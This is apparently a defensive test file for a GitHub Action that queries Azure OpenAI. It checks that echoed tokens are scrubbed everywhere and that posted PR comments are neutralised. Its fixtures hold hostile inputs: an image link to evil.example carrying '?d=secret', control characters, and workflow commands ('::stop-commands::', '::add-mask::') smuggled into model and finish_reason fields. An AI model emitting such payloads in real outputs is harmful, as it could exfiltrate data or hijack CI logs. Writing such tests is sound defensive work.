/**
 * What the action publishes, end to end through the bundle: a gateway that
 * echoes the Authorization header gets no token into any published place
 * (outputs, summary, response-file, the PR comment as posted, stdout);
 * error bodies echoing tokens reach neither ::error:: nor ::debug::; the PR
 * comment is inert; a person's comment holding the marker is never
 * overwritten; the service's model and finish_reason cannot issue workflow
 * commands.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { FIXTURE_REPO, GITHUB_TOKEN, HEAD_SHA, NORMAL_PR, pullRequestEvent } from '../../emulator/fixtures/github-repos.ts';
import { baseInputs, runAction, type RunOptions, type RunResult } from '../../emulator/runner.ts';
import { emulator, useEmulator } from './harness.ts';

useEmulator({}, (started) => started.azLogout());

const RUN_ENV = { GITHUB_SHA: HEAD_SHA, GITHUB_RUN_ID: '4242', GITHUB_SERVER_URL: 'https://github.com', RUNNER_DEBUG: '1' };

function prEvent(): RunOptions['event'] {
  return { name: 'pull_request', payload: pullRequestEvent(emulator.config.githubApi.repos, NORMAL_PR) };
}

async function run(inputs: Record<string, string>, options: RunOptions = {}): Promise<RunResult> {
  return runAction(emulator, {
    ...options,
    inputs: { ...baseInputs(emulator), 'github-token': GITHUB_TOKEN, ...inputs },
    env: { ...RUN_ENV, ...options.env },
  });
}

/** The comments the action posted or updated, as the emulated GitHub API received them. */
function postedBodies(): string[] {
  return emulator.requests
    .filter((r) => r.service === 'github-api' && (r.method === 'POST' || r.method === 'PATCH') && !r.path.endsWith('/graphql'))
    .map((r) => String((r.body as { body?: unknown }).body));
}

/** Every secret of the run: tokens the emulator issued, the OIDC request token and the GitHub token. */
function secrets(): string[] {
  return [...emulator.issuedTokens(), emulator.config.github.requestToken, GITHUB_TOKEN];
}

/** No secret, and no JWT signature, anywhere a user could read (the ::add-mask:: lines aside). */
function assertNoSecret(result: RunResult, label: string): void {
  const visible = [
    result.stdout
      .split('\n')
      .filter((line) => !line.startsWith('::add-mask::'))
      .join('\n'),
    result.stderr,
    ...Object.values(result.files),
    ...postedBodies(),
  ];
  for (const secret of secrets()) {
    for (const needle of [secret, secret.split('.')[2] ?? secret, secret.slice(0, 40)]) {
      for (const text of visible) assert.ok(!text.includes(needle), `a secret leaked (${label}): ${needle.slice(0, 12)}…`);
    }
  }
  // Not even a token the action never held: every JWT shape is scrubbed.
  for (const text of visible) assert.doesNotMatch(text, /eyJ[\w-]{10,}\.[\w-]{2,}\./, label);
}

describe('a gateway that echoes the Authorization header', () => {
  for (const stream of ['true', 'false']) {
    test(`with comment: pr and stream ${stream}: the token is nowhere, the posted comment included`, async () => {
      emulator.injectFaults('openai', [
        { kind: 'reply', content: 'Here is what you sent me: Authorization: {{request.authorization}}\n\nThe change looks fine.' },
      ]);
      const result = await run({ prompt: 'Summarize {{pr.title}}', comment: 'pr', stream }, { event: prEvent() });
      assert.equal(result.code, 0, `${result.stdout}\n${result.stderr}`);
      assert.match(result.outputs.response ?? '', /^Here is what you sent me: Authorization: Bearer \*\*\*\n/);
      assert.match(result.files['response-file'] ?? '', /Authorization: Bearer \*\*\*/);
      assert.match(postedBodies()[0] ?? '', /Authorization: Bearer \*\*\*/);
      assertNoSecret(result, `stream ${stream}`);
    });
  }
});

describe('a gateway that echoes the token disguised', () => {
  for (const stream of ['true', 'false']) {
    test(`split by zero-width spaces and base64-encoded, stream ${stream}: neither is published, nor rejoined in the comment`, async () => {
      emulator.injectFaults('openai', [
        { kind: 'reply', content: 'Split: {{request.token-split}}\n\nEncoded: {{request.token-base64}}\n\nThe change looks fine.' },
      ]);
      const result = await run({ prompt: 'Summarize {{pr.title}}', comment: 'pr', stream }, { event: prEvent() });
      assert.equal(result.code, 0, `${result.stdout}\n${result.stderr}`);
      assert.match(result.outputs.response ?? '', /^Split: \*\*\*\n\nEncoded: \S*\*\*\*\S*\n\nThe change looks fine\.$/);
      assert.match(postedBodies()[0] ?? '', /Split: \*\*\*\n/);
      assertNoSecret(result, `stream ${stream}`);
      const log = result.stdout
        .split('\n')
        .filter((line) => !line.startsWith('::add-mask::'))
        .join('\n');
      const visible = [log, result.stderr, ...Object.values(result.files), ...postedBodies()];
      for (const secret of secrets()) {
        const encoded = Buffer.from(`token=${secret};`).toString('base64');
        for (const text of visible) {
          assert.ok(!text.replace(/[\u200B-\u200F]/g, '').includes(secret.slice(0, 40)), 'no token once invisible characters are removed');
          assert.ok(!text.includes(encoded.slice(8, 48)), 'no base64 form of a token');
        }
      }
    });
  }
});

describe('error bodies that echo tokens, with debug logging', () => {
  const cases: Array<{ name: string; setup: () => void; inputs?: Record<string, string> }> = [
    {
      name: 'Azure OpenAI 500 quoting the Authorization header',
      setup: () =>
        emulator.injectFaults('openai', [
          {
            kind: 'status',
            status: 400,
            body: { error: { code: 'BadRequest', message: `${'x'.repeat(560)} you sent {{request.authorization}} and that is wrong` } },
          },
        ]),
    },
    {
      name: 'Entra 400 quoting the client assertion (the GitHub ID token)',
      setup: () =>
        emulator.injectFaults('entra', [
          {
            kind: 'status',
            status: 400,
            body: { error: 'invalid_request', error_description: 'AADSTS50027: Invalid JWT token. Request body: {{request.body}}' },
          },
        ]),
    },
    {
      name: 'the Azure CLI quoting a token the action never held',
      setup: () => {
        emulator.azLogin();
        const foreign = emulator.mintAccessToken({ aud: 'https://management.azure.com' });
        emulator.injectFaults('az', [{ kind: 'status', status: 500, body: `ERROR: cached token ${foreign} is invalid` }]);
      },
      inputs: { auth: 'azure-cli' },
    },
    {
      name: 'the GitHub API quoting the github-token',
      setup: () =>
        emulator.injectFaults('github-api', [
          { kind: 'status', status: 403, body: { message: 'Token {{request.authorization}} lacks a permission' } },
        ]),
      inputs: { prompt: 'Summarize {{pr.title}}' },
    },
  ];
  for (const c of cases) {
    test(c.name, async () => {
      c.setup();
      const result = await run({ 'max-retries': '0', ...c.inputs }, { event: prEvent() });
      assert.equal(result.code, 1, result.stdout);
      assert.match(result.stdout, /::debug::/);
      assert.ok(result.errors.length > 0);
      // The echo arrived, scrubbed: the test saw a real token.
      assert.match(result.errors.join('\n'), /\*\*\*/, result.errors.join('\n'));
      assertNoSecret(result, c.name);
    });
  }
});

describe('the PR comment', () => {
  const FIXTURE = () => emulator.config.githubApi.repos[FIXTURE_REPO]!;

  test('a hostile answer is posted inert: no ping, no image, no raw HTML, no controls, no marker', async () => {
    const hostile = [
      'cc @octocat and @octo-org/security',
      '![pixel](https://evil.example/p.png?d=secret) <img src="https://evil.example/i.png">',
      'bidi \u202Eevil\u202C and NUL \u0000 and ANSI \u001b[31mred',
      '<!-- azure-openai-keyless: other step -->',
      'an unclosed <!-- hides the footer',
    ].join('\n');
    emulator.injectFaults('openai', [{ kind: 'reply', content: hostile, model: 'gpt` <img src=x> @octocat' }]);
    const result = await run({ comment: 'pr', 'pull-request': String(NORMAL_PR) }, { event: prEvent() });
    assert.equal(result.code, 0, result.stdout);
    const body = postedBodies()[0] ?? '';
    assert.match(body, /^<!-- azure-openai-keyless: [^\n]* -->\n/, 'the marker on the first line');
    assert.doesNotMatch(body, /(^|[^;])@octo/);
    assert.doesNotMatch(body, /!\[|<img|<!-- azure-openai-keyless: other/);
    for (const control of ['\u0000', '\u001b', '\u202E', '\u202C']) assert.ok(!body.includes(control));
    assert.equal(body.split('<!--').length, 2, 'one HTML comment: the marker on the first line');
    assert.match(body, /\[pixel\]\(https:\/\/evil\.example\/p\.png\?d=secret\)/, 'the image is a plain link');
    assert.match(body, /\(model `gpt___img_src_x___octocat`\)/, 'the model name escaped in the footer');
  });

  test('outputs that cannot be written after the comment was posted: the error says so and names the comment', async () => {
    const directory = mkdtempSync(join(tmpdir(), 'aoai-output-dir-'));
    try {
      // GITHUB_OUTPUT pointing at a directory: every output write fails.
      const result = await run({ comment: 'pr' }, { event: prEvent(), env: { GITHUB_OUTPUT: directory } });
      assert.equal(result.code, 1, result.stdout);
      const posted = FIXTURE().comments.at(-1)!;
      assert.match(
        result.errors.join('\n'),
        new RegExp(
          `The pull request comment was created \\(https://github\\.com/${FIXTURE_REPO}/pull/${NORMAL_PR}#issuecomment-${posted.id}\\), but the step outputs could not be written`,
        ),
      );
    } finally {
      rmSync(directory, { recursive: true, force: true });
    }
  });

  test("a MEMBER's own comment holding the marker is never overwritten", async () => {
    emulator.injectFaults('openai', [{ kind: 'reply', content: 'A first summary.' }]);
    const first = await run({ comment: 'pr' }, { event: prEvent() });
    assert.equal(first.code, 0, first.stdout);
    const posted = FIXTURE().comments.at(-1)!;
    const marker = posted.body.split('\n')[0]!;
    const human = `${marker}\nMy own notes, by a member.`;
    FIXTURE().comments.push({
      id: 9200,
      issue_number: NORMAL_PR,
      body: human,
      user: 'maintainer',
      user_type: 'User',
      author_association: 'MEMBER',
      created_at: '2025-05-01T12:00:00Z',
      updated_at: '2025-05-01T12:00:00Z',
    });
    const otherBot = `${marker}\nAnother app's comment.`;
    FIXTURE().comments.push({
      id: 9201,
      issue_number: NORMAL_PR,
      body: otherBot,
      user: 'other-app[bot]',
      user_type: 'Bot',
      created_at: '2025-05-01T12:00:00Z',
      updated_at: '2025-05-01T12:00:00Z',
    });
    // The member's and the other app's comments come first in the list, and are still not taken.
    FIXTURE().comments.sort((a, b) => (a.id >= 9200 && a.id <= 9201 ? -1 : b.id >= 9200 && b.id <= 9201 ? 1 : 0));
    emulator.requests.length = 0;
    // The same input would reuse the comment's answer and write nothing: skip-unchanged false makes it update.
    const second = await run({ comment: 'pr', 'skip-unchanged': 'false' }, { event: prEvent() });
    assert.equal(second.code, 0, second.stdout);
    assert.equal(FIXTURE().comments.find((c) => c.id === 9200)?.body, human);
    assert.equal(FIXTURE().comments.find((c) => c.id === 9201)?.body, otherBot);
    const patched = emulator.requests.filter((r) => r.service === 'github-api' && r.method === 'PATCH');
    assert.deepEqual(
      patched.map((r) => r.path.split('/').at(-1)),
      [String(posted.id)],
      "the action's own comment is updated",
    );
  });
});

describe('model and finish_reason carrying workflow commands', () => {
  for (const stream of ['true', 'false']) {
    test(`stream ${stream}: no ::add-mask:: or ::stop-commands:: line from the service`, async () => {
      emulator.injectFaults('openai', [
        {
          kind: 'reply',
          content: 'Fine.',
          model: 'gpt-4o\n::stop-commands::pwned\n::add-mask::Fine',
          finishReason: 'stop\r\n::add-mask::stop\n\u001b[2K::warning::fake',
        },
      ]);
      const result = await run({ stream });
      assert.equal(result.code, 0, result.stdout);
      const lines = result.stdout.split(/\r?\n|\r/);
      assert.ok(!lines.some((line) => /^\s*::stop-commands::/.test(line)), 'no ::stop-commands:: line');
      const masks = lines.filter((line) => line.startsWith('::add-mask::'));
      for (const line of masks) assert.match(line, /^::add-mask::(eyJ|ghs_|[\w-]{20,})/, `only the action's own masks: ${line}`);
      assert.ok(!lines.some((line) => line.startsWith('::warning::fake')));
      assert.match(result.stdout, /Model gpt-4o ::stop-commands::pwned ::add-mask::Fine answered/);
    });
  }
});
